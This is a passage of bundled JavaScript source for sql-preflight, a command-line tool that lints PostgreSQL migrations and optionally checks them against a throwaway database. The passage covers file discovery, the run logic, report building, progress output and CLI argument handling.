    const abs = path2.join(dir, dirent.name);
    let isDirectory = dirent.isDirectory();
    let isFile = dirent.isFile();
    if (dirent.isSymbolicLink()) {
      const target = await stat2(abs).catch((error) => error);
      if (target instanceof Error) {
        const message = target.code === "ELOOP" ? "Symbolic link loop: it leads back to itself through links; not followed." : target.code === "ENOENT" ? "Broken symbolic link: its target does not exist." : `Cannot follow the symbolic link (${target.code ?? target.message}).`;
        problems.push({ kind: "path", path: display2(cwd, abs), message });
        continue;
      }
      [isDirectory, isFile] = [target.isDirectory(), target.isFile()];
    }
    if (isDirectory || isFile) result2.push({ path: display2(cwd, abs), abs, kind: isDirectory ? "directory" : "file" });
  }
  return result2;
}
async function walk3(cwd, root, problems) {
  const files = [];
  const walked = /* @__PURE__ */ new Set();
  const links = [];
  const visit = async (dir, real) => {
    walked.add(real);
    for (const entry of await entries(cwd, dir, problems)) {
      if (entry.kind === "file") files.push(entry);
      else if (await realpath2(entry.abs) === path2.join(real, posix3.basename(entry.path))) await visit(entry.abs, path2.join(real, posix3.basename(entry.path)));
      else links.push({ abs: entry.abs, parentReal: real });
    }
  };
  await visit(root, await realpath2(root));
  while (links.length > 0) {
    const link = links.shift();
    const real = await realpath2(link.abs);
    if (contains(real, link.parentReal)) {
      problems.push({ kind: "path", path: display2(cwd, link.abs), message: `Symbolic link loop: it points to ${display2(cwd, real)}, which contains it; not followed.` });
    } else if (!walked.has(real)) {
      await visit(link.abs, real);
    }
  }
  return files;
}
async function uniqueByRealPath2(cwd, matched) {
  const realCwd = await realpath2(cwd);
  const candidates = await Promise.all(
    matched.map(async (file) => {
      const abs = path2.resolve(cwd, file);
      const real = await realpath2(abs).catch(() => abs);
      return { path: file, abs, real, direct: real === path2.join(realCwd, file) };
    })
  );
  candidates.sort((a, b) => Number(b.direct) - Number(a.direct) || a.path.split("/").length - b.path.split("/").length || naturalCompare(a.path, b.path));
  const seen = /* @__PURE__ */ new Set();
  return candidates.filter((c) => !seen.has(c.real) && seen.add(c.real)).map(({ path: p, abs }) => ({ path: p, abs }));
}
function configFor(configs, root) {
  return configs.filter((c) => within(root, c.path)).sort((a, b) => b.path.length - a.path.length)[0];
}
function display2(cwd, abs) {
  return path2.relative(cwd, abs).split(path2.sep).join("/") || ".";
}
var SKIPPED_DIRECTORIES, SKIPPED_GLOBS2, SIDE_FILES;
var init_discover2 = __esm({
  "src/migrations/discover.ts"() {
    "use strict";
    init_parse();
    init_detect();
    init_order();
    init_plan4();
    init_read2();
    init_text();
    SKIPPED_DIRECTORIES = /* @__PURE__ */ new Set(["node_modules", ".git"]);
    SKIPPED_GLOBS2 = ["**/node_modules/**", "**/.git/**"];
    SIDE_FILES = /(^|\/)(migration_lock\.toml|metadata\.toml|meta\/_journal\.json)$|\.sql\.conf$/;
  }
});

// src/migrations/index.ts
var init_migrations = __esm({
  "src/migrations/index.ts"() {
    "use strict";
    init_detect();
    init_discover2();
    init_read2();
  }
});

// src/version.ts
var VERSION;
var init_version = __esm({
  "src/version.ts"() {
    "use strict";
    VERSION = "0.1.0";
  }
});

// src/run.ts
import { readFile as readFile2 } from "node:fs/promises";
import { relative, resolve as resolve3 } from "node:path";
async function run2(options) {
  const started = performance.now();
  const config = loadConfig(options.configFile ?? findConfig(options.cwd), rules, options.cwd);
  const postgresVersion = options.postgresVersion ?? config.postgresVersion ?? DEFAULT_POSTGRES_VERSION;
  const failOn = options.failOn ?? config.failOn ?? "error";
  const progress = options.progress ?? silentProgress;
  const rulesById = new Map(rules.map((r) => [r.meta.id, r]));
  const phases = [];
  const phase = async (name, work) => {
    const start = performance.now();
    try {
      return await progress.phase(name, work);
    } finally {
      phases.push({ name, durationMs: Math.round(performance.now() - start) });
    }
  };
  const fromRoot = (p) => relative(options.cwd, resolve3(config.root, p)) || ".";
  const migrations = config.migrations.map((m) => ({ ...m, path: fromRoot(m.path) }));
  const targets = options.paths.length > 0 ? options.paths : migrations.map((m) => m.path);
  const problems = [];
  if (targets.length === 0) {
    problems.push("Nothing to check: give migration paths on the command line or list them under `migrations` in .sql-preflight.yml.");
  }
  const queryTargets = options.database ? [...config.queries.map(fromRoot), ...options.queries ?? []] : [];
  const stats = options.statsFile ? await readStats(options.statsFile, options.cwd) : void 0;
  if (stats && queryTargets.length === 0) {
    problems.push(`${options.statsFile}: a statistics file is only used to plan queries, and no query files are given (queries: in the config, or --queries).`);
  }
  const { discovery, queryFiles, change } = await phase("discover", async () => {
    const discovery2 = await discoverMigrations(options.cwd, targets, migrations, config.ignore.map(fromRoot));
    const queries = queryTargets.length > 0 ? await discoverQueries(options.cwd, queryTargets, config.ignore.map(fromRoot)) : { files: [], problems: [] };
    problems.push(...queries.problems.map((p) => `${p.path}: ${p.message}`));
    const known = [...discovery2.sets.flatMap((s) => s.files.map((f) => f.path)), ...queries.files.map((f) => f.path)];
    return { discovery: discovery2, queryFiles: queries.files, change: await selectChange(options, known) };
  });
  problems.push(...discovery.problems.filter((p) => p.kind === "path").map((p) => `${p.path}: ${p.message}`));
  const extraFindings = [];
  const fileLevel = (rule, path3, message) => {
    const severity = config.rules[rule.meta.id]?.severity ?? rule.meta.severity;
    if (severity !== "off") extraFindings.push(fileFinding(rule, path3, message, severity));
  };
  for (const p of discovery.problems) if (p.kind === "runner") fileLevel(migration_layout_default, p.path, p.message);
  for (const path3 of change.modified) {
    fileLevel(modified_migration_default, path3, `This migration already existed at ${options.base} and was edited: databases that applied it will not run the edit.`);
  }
  const results = await phase("lint", async () => {
    await loadParser();
    return discovery.sets.map((set) => {
      const sources = set.files.map((file) => ({ ...file, change: change.isChanged(file.path) ? change.id(file.path) : void 0 }));
      return lintSources(sources, { postgresVersion, rules, ruleSettings: config.rules });
    });
  });
  const unreadable = rulesById.get(ENGINE_RULES.unreadableFile);
  const unreadableSeverity = config.rules[unreadable.meta.id]?.severity ?? unreadable.meta.severity;
  for (const file of queryFiles) {
    if (!file.readError || !change.isChanged(file.path) || unreadableSeverity === "off") continue;
    const range2 = file.readError.range ?? { start: 0, end: 0 };
    extraFindings.push(toFinding(unreadable.meta.id, unreadableSeverity, file.path, new LineIndex(file.text), range2, { message: file.readError.message }, void 0, unreadable));
  }
  let findings = [...results.flatMap((r) => r.findings), ...extraFindings];
  let dynamic;
  let refuted = [];
  if (options.database) {
    const sets = await dynamicSets(discovery.sets, results, change, options);
    const planned = queryFiles.filter((f) => !f.readError);
    if (planned.length > 0 || config.seed.files.length > 0) {
      const set = sets[0] ?? (planned.some((f) => change.isChanged(f.path)) ? existingOnly(discovery.sets[0]) : void 0);
      if (set) {
        set.explain = {
          queryFiles: planned,
          isChanged: (path3) => change.isChanged(path3),
          analyze: options.analyze ?? false,
          seed: { ...config.seed, files: await readSqlFiles(config.seed.files, "seed", fromRoot, options.cwd) },
          tables: config.tables,
          ...stats ? { stats } : {},
          rules: rulesById,
          ruleSettings: config.rules,
          progress
        };
        if (sets.length === 0) sets.push(set);
      }
    }
    const deadline = config.runTimeoutMs === void 0 ? void 0 : { atMs: Date.now() + config.runTimeoutMs, seconds: config.runTimeoutMs / 1e3 };
    dynamic = await runDynamic(sets, {
      database: {
        kind: options.database.kind,
        databaseUrl: options.database.url,
        postgresImage: options.database.image,
        postgresVersion,
        statementTimeoutMs: config.statementTimeoutMs,
        ...deadline ? { deadline } : {}
      },
      setup: await readSqlFiles(config.setup, "setup", fromRoot, options.cwd),
      tables: config.tables,
      rules: rulesById,
      progress: { ...progress, phase }
    });
    const merged = mergeTrace(findings, dynamic.traced, rulesById);
    const dynamicFindings = [...dynamic.findings, ...dynamic.explain?.findings ?? []];
    findings = [...merged.findings, ...dynamicFindings.filter((f) => config.rules[f.ruleId]?.severity !== "off")];
    refuted = merged.refuted;
    problems.push(...dynamic.problems);
  }
  const report = buildReport(results, findings, postgresVersion, refuted.length);
  if (dynamic) {
    const traces = new Map(dynamic.traced.map((t) => [t.file.path, t.traces]));
    for (const file of report.files) {
      const fileTraces = traces.get(file.path);
      if (!fileTraces) continue;
      for (const statement of file.statements) {
        const trace = fileTraces[statement.index];
        if (trace) statement.trace = trace;
      }
    }
    if (dynamic.database.provider !== "none") report.database = dynamic.database;
    if (dynamic.explain) {
      report.seed = dynamic.explain.seed;
      report.queries = dynamic.explain.queries;
      if (dynamic.explain.notes.length > 0) report.notes = dynamic.explain.notes;
    }
  }
  report.phases = [...phases, { name: "total", durationMs: Math.round(performance.now() - started) }];
  const failing = failOn !== "never" && report.findings.some((f) => SEVERITIES.indexOf(f.severity) <= SEVERITIES.indexOf(failOn));
  return { report, config, failOn, problems, refuted, exitCode: problems.length > 0 ? 2 : failing ? 1 : 0 };
}
async function selectChange(options, files) {
  if (options.base) {
    const git2 = await changedSince(options.cwd, options.base);
    const repoPath = (path3) => relative(git2.root, resolve3(options.cwd, path3)).split("\\").join("/");
    const modified = new Set(files.filter((p) => git2.modified.has(repoPath(p))));
    return {
      isChanged: (path3) => git2.changed.has(repoPath(path3)),
      id: () => "change",
      modified,
      baseText: (path3) => fileAt(git2.root, options.base, repoPath(path3))
    };
  }
  if (options.changed) {
    const wanted = new Set(options.changed.map((p) => resolve3(options.cwd, p)));
    const known = new Set(files.map((f) => resolve3(options.cwd, f)));
    const unknown = [...wanted].filter((p) => !known.has(p));
    if (unknown.length && !options.changedIncludesOtherFiles) {
      throw new UsageError(`--changed names files that are not among the migrations or query files: ${unknown.map((p) => relative(options.cwd, p)).join(", ")}.`);
    }
    return { isChanged: (path3) => wanted.has(resolve3(options.cwd, path3)), id: () => "change", modified: /* @__PURE__ */ new Set(), baseText: async () => void 0 };
  }
  return {
    isChanged: () => true,
    id: (path3) => options.database ? "change" : path3,
    modified: /* @__PURE__ */ new Set(),
    baseText: async () => void 0
  };
}
async function dynamicSets(sets, results, change, options) {
  const dynamic = [];
  for (const [i, set] of sets.entries()) {
    const existing = [];
    const changed = [];
    for (const file of set.files) {
      if (change.modified.has(file.path)) {
        const text2 = await change.baseText(file.path);
        if (text2 !== void 0) existing.push(asExisting(readMigrationFile({ format: file.format, path: file.path, text: text2, version: file.version }).file, file.transaction));
      } else if (change.isChanged(file.path)) {
        changed.push({ file, analyzed: results[i].changed.get(file.path) });
      } else if (!file.readError) {
        existing.push(asExisting(file));
      }
    }
    if (changed.length > 0) dynamic.push({ existing, changed });
  }
  return dynamic;
}
function existingOnly(set) {
  return set && { existing: set.files.filter((f) => !f.readError).map((f) => asExisting(f)), changed: [] };
}
function asExisting(file, transaction = file.transaction) {
  return { path: file.path, text: file.text, skipped: file.skipped, transaction };
}
async function readSqlFiles(paths, purpose, fromRoot, cwd) {
  return Promise.all(
    paths.map(async (path3) => {
      const shown = fromRoot(path3);
      try {
        return { path: shown, text: await readFile2(resolve3(cwd, shown), "utf8") };
      } catch (error) {
        throw new UsageError(`${shown}: cannot read the ${purpose} SQL file listed in the config (${error.code ?? String(error)}).`);
      }
    })
  );
}
async function readStats(path3, cwd) {
  let text2;
  try {
    text2 = await readFile2(resolve3(cwd, path3), "utf8");
  } catch (error) {
    throw new UsageError(`${path3}: cannot read the statistics file (${error.code ?? String(error)}).`);
  }
  return readStatsFile(path3, text2);
}
function buildReport(results, findings, postgresVersion, refuted) {
  const files = results.flatMap((r) => r.files);
  const sorted = sortFindings(findings);
  const count2 = (severity) => sorted.filter((f) => f.severity === severity).length;
  return {
    tool: { name: "sql-preflight", version: VERSION },
    postgresVersion,
    files,
    findings: sorted,
    summary: {
      error: count2("error"),
      warning: count2("warning"),
      notice: count2("notice"),
      total: sorted.length,
      files: files.length,
      statements: files.reduce((n, f) => n + f.statements.length, 0),
      suppressed: results.reduce((n, r) => n + r.suppressed, 0),
      refuted
    }
  };
}
var DEFAULT_POSTGRES_VERSION;
var init_run = __esm({
  "src/run.ts"() {
    "use strict";
    init_dynamic();
    init_git();
    init_merge();
    init_load();
    init_lint();
    init_parse();
    init_progress();
    init_source();
    init_types();
    init_errors();
    init_migrations();
    init_queries();
    init_rules();
    init_stats();
    init_migration_layout();
    init_modified_migration();
    init_version();
    DEFAULT_POSTGRES_VERSION = 17;
  }
});

// src/cli/progress.ts
function terminalProgress(stream) {
  const live = stream.isTTY === true;
  let phaseName = "";
  let phaseStart = 0;
  let lastTenth = -1;
  const clear = () => {
    if (live) stream.write("\r\x1B[K");
  };
  return {
    async phase(name, work) {
      phaseName = name;
      phaseStart = performance.now();
      lastTenth = -1;
      if (!live) stream.write(`sql-preflight: ${name}...
`);
      try {
        return await work();
      } finally {
        clear();
        stream.write(`sql-preflight: ${name} done in ${seconds(performance.now() - phaseStart)}
`);
      }
    },
    step(done, total, label2) {
      const elapsed = seconds(performance.now() - phaseStart);
      if (live) {
        const text2 = `${phaseName}: ${done}/${total} ${label2} (${elapsed})`;
        stream.write(`\r\x1B[K${text2.slice(0, (stream.columns ?? 100) - 1)}`);
        return;
      }
      const tenth = total === 0 ? 10 : Math.floor(done / total * 10);
      if (tenth === lastTenth || done === total) return;
      lastTenth = tenth;
      stream.write(`sql-preflight: ${phaseName} ${done}/${total} ${label2} (${elapsed})
`);
    },
    note(message) {
      clear();
      stream.write(`sql-preflight: ${message}
`);
    }
  };
}
function seconds(ms) {
  return `${(ms / 1e3).toFixed(1)}s`;
}
var init_progress2 = __esm({
  "src/cli/progress.ts"() {
    "use strict";
  }
});

// src/cli/main.ts
var main_exports = {};
__export(main_exports, {
  main: () => main
});
import { readFileSync as readFileSync3, writeFileSync as writeFileSync2 } from "node:fs";
import { resolve as resolve4 } from "node:path";
import { parseArgs as parseArgs2 } from "node:util";
async function main(argv) {
  if (argv[0] === "stats") {
    if (argv[1] === "export") return statsExportCommand(argv.slice(2), { stdout: process.stdout, stderr: process.stderr, cwd: process.cwd() });
    return usage(`unknown stats command${argv[1] === void 0 ? "" : ` "${argv[1]}"`} (stats commands: export).`);
  }
  let parsed;
  try {
    parsed = parseArgs2({
      args: argv,
      allowPositionals: true,
      options: {
        config: { type: "string" },
        format: { type: "string", default: "text" },
        output: { type: "string" },
        "postgres-version": { type: "string" },
        "fail-on": { type: "string" },
        "no-color": { type: "boolean" },
        base: { type: "string" },
        changed: { type: "string", multiple: true },
        db: { type: "string" },
        "database-url": { type: "string" },
        "postgres-image": { type: "string" },
        queries: { type: "string", multiple: true },
        analyze: { type: "boolean" },
        stats: { type: "string" },
        verbose: { type: "boolean" },
        quiet: { type: "boolean" },
        help: { type: "boolean", short: "h" },
        version: { type: "boolean", short: "v" }
      }
    });
  } catch (error) {
    return usage(error.message);
  }
  const { values, positionals } = parsed;
  if (values.version) {
    process.stdout.write(`${VERSION}
`);
    return 0;
  }
  const [command, ...paths] = positionals;
  if (values.help || !command) {
    process.stdout.write(HELP);
    return values.help ? 0 : 2;
  }
  if (command === "rules") {
    for (const rule of rules) process.stdout.write(`${rule.meta.id.padEnd(40)} ${rule.meta.severity.padEnd(8)} ${rule.meta.summary}
`);
    return 0;
  }
  if (command !== "lint" && command !== "check") return usage(`unknown command "${command}" (commands: lint, check, rules, stats export).`);
  const checkOnly = ["db", "database-url", "postgres-image", "queries", "analyze", "stats", "verbose", "quiet"];
  const misplaced = command === "lint" ? checkOnly.find((flag) => values[flag] !== void 0) : void 0;
  if (misplaced) return usage(`--${misplaced} applies to check, not lint.`);
  if (values.base !== void 0 && values.changed !== void 0) return usage("give either --base or --changed, not both.");
  const db = values.db ?? "auto";
  if (!DATABASES.includes(db)) return usage(`--db must be one of ${DATABASES.join(", ")}, not "${db}".`);
  const databaseUrl = values["database-url"] ?? process.env.SQL_PREFLIGHT_DATABASE_URL;
  if (db === "url" && !databaseUrl) return usage("--db url needs --database-url (or SQL_PREFLIGHT_DATABASE_URL).");
  const format = values.format;
  if (!OUTPUT_FORMATS.includes(format)) return usage(`--format must be one of ${OUTPUT_FORMATS.join(", ")}, not "${format}".`);
  if (values["fail-on"] !== void 0 && !FAIL_ON.includes(values["fail-on"])) return usage(`--fail-on must be one of ${FAIL_ON.join(", ")}, not "${values["fail-on"]}".`);
  let postgresVersion;
  if (values["postgres-version"] !== void 0) {
    postgresVersion = Number(values["postgres-version"]);
    if (!Number.isInteger(postgresVersion) || postgresVersion < 10 || postgresVersion > 19) {
      return usage(`--postgres-version must be a PostgreSQL major version from 10 to 19, not "${values["postgres-version"]}".`);
    }
  }
  const cwd = process.cwd();
  try {
    const result2 = await run2({
      cwd,
      paths,
      configFile: values.config ? resolve4(cwd, values.config) : void 0,
      postgresVersion,
      failOn: values["fail-on"],
      base: values.base,
      changed: values.changed,
      database: command === "check" ? { kind: db, url: databaseUrl, image: values["postgres-image"] } : void 0,
      queries: values.queries,
      analyze: values.analyze,
      statsFile: values.stats,
      progress: command === "check" && !values.quiet ? terminalProgress(process.stderr) : void 0
    });
    if (values.verbose) {
      for (const { finding, reason } of result2.refuted) {
        process.stderr.write(`sql-preflight: dropped ${finding.ruleId} at ${finding.file}:${finding.line}:${finding.column}: ${reason}.
`);
      }
    }
    for (const problem of result2.problems) process.stderr.write(`sql-preflight: ${problem}
`);
    const output = reporters[format].render(result2.report, {
      readSource: (path3) => readSource(resolve4(cwd, path3)),
      rules: rules.map((r) => r.meta),
      color: !values.output && !values["no-color"] && process.stdout.isTTY === true && !process.env.NO_COLOR
    });
    if (values.output) {
      try {
        writeFileSync2(values.output, output);
      } catch (error) {
        return usage(`${values.output}: cannot write the report (${error.code ?? String(error)}).`, false);
      }
    } else {
      process.stdout.write(output);
    }
    return result2.exitCode;
  } catch (error) {
    if (error instanceof UsageError) return usage(error.message, false);
    throw error;
  }
}
function readSource(path3) {
  try {
    return readFileSync3(path3, "utf8");
  } catch {
    return void 0;
  }
}
function usage(message, hint = true) {
  process.stderr.write(`sql-preflight: ${message}
${hint ? "Run sql-preflight --help for usage.\n" : ""}`);
  return 2;
}
var HELP, FAIL_ON, DATABASES;
var init_main = __esm({
  "src/cli/main.ts"() {
    "use strict";
    init_errors();
    init_reporters();
    init_rules();
    init_run();
    init_command();
    init_progress2();
    init_version();
    HELP = `sql-preflight ${VERSION}: catches dangerous PostgreSQL migrations before they are merged.

Usage:
  sql-preflight lint [paths or globs...] [options]     static rules only
  sql-preflight check [paths or globs...] [options]    static rules, then run the change on a throwaway PostgreSQL
  sql-preflight stats export [options]                 a database's statistics, for check --stats
  sql-preflight rules
  sql-preflight --help | --version

Options for lint and check:
  --config FILE              config file (default: .sql-preflight.yml, searched upward)
  --format FORMAT            ${OUTPUT_FORMATS.join(" | ")} (default: text)
  --output FILE              write the report to FILE instead of standard output
  --postgres-version N       production PostgreSQL major version (default: 17)
  --fail-on LEVEL            error | warning | notice | never (default: error)
  --no-color                 plain text output
  --base REF                 the change is the migrations added or edited since this git ref; the rest exist already
  --changed FILE             the change is these migration or query files (repeatable); without --base or
                             --changed, every file

Options for check:
  --db PROVIDER              auto | pglite | docker | url (default: auto: url if given, else Docker if an engine
                             answers, else PGlite)
  --database-url URL         a server to create a throwaway database on (or SQL_PREFLIGHT_DATABASE_URL)
  --postgres-image IMAGE     Docker image (default: postgres:<postgres-version>)
  --queries PATH             application query files, folders or globs to plan with EXPLAIN (repeatable), besides
                             the config's queries
  --analyze                  also run each query once with EXPLAIN ANALYZE on sample values, rolled back
  --stats FILE               production table sizes and column statistics from sql-preflight stats export
  --verbose                  also list the static findings that the database showed to be wrong
  --quiet                    no progress on standard error

Options for stats export: see sql-preflight stats export --help.

Exit codes: 0 no findings at or above --fail-on, 1 findings at or above it, 2 usage, config or I/O error.
`;
    FAIL_ON = ["error", "warning", "notice", "never"];
    DATABASES = ["auto", "pglite", "docker", "url"];
  }
});

// src/cli/index.ts
import { setFlagsFromString } from "node:v8";
setFlagsFromString("--no-wasm-tier-up");
setFlagsFromString("--no-wasm-dynamic-tiering");
var { main: main2 } = await Promise.resolve().then(() => (init_main(), main_exports));
process.exitCode = await main2(process.argv.slice(2));
